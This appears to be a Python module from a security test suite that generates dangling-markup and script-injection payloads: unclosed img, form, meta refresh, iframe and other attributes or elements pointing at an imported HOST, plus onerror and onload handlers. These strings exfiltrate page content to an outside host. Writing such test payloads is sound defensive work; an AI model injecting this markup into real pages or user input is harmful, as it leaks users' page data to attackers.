"""Dangling mark-up: an open value or element that swallows the page behind the article and carries it away."""

from collections.abc import Iterator

from tests.security.payloads.marks import CALL, HOST, IMAGE

_VALUES = (
    "<img src=@{0}?",
    "<img alt=@x",
    "<a href=@{0}?",
    "<a title=@x",
    "<base target=@x",
    "<form action=@{0}?",
    "<button formaction=@{0}?",
    "<meta http-equiv=refresh content=@0;url={0}?",
    "<link rel=stylesheet href=@{0}?",
    "<iframe src=@{0}?",
    "<iframe name=@x",
    "<object data=@{0}?",
    "<table background=@{0}?",
    "<video poster=@{0}?",
    "<p style=@background:url({0}?",
    "<input type=hidden name=x value=@y",
    "<svg onload=@pwn(",
    "<img src=x onerror=@pwn(",
)
_ELEMENTS = (
    "textarea select option style script title xmp plaintext noscript iframe template svg math button form".split()
)


def payloads() -> Iterator[str]:
    """Yield each value left open with each quote and some text behind it, and each element left open."""
    for value in _VALUES:
        yield from (value.replace("@", opening).format(HOST) for opening in ("'", '"', "`", "'\n<p>x</p>\n"))
        yield value.replace("@", "").format(HOST)
    for element in _ELEMENTS:
        yield f"<form action={HOST}><{element} name=x>"
        yield f"<{element}"
        yield f"<p>x</p><{element} onclick={CALL}><p>y</p>"
    yield f"<form action={HOST}><input type=submit style='position:fixed;inset:0'><p>x"
    yield f"{IMAGE}<!--"
    yield f"{IMAGE}<![CDATA["
    yield f"<a href={HOST}>{IMAGE}<p>"
    yield f"<p title='{IMAGE}"
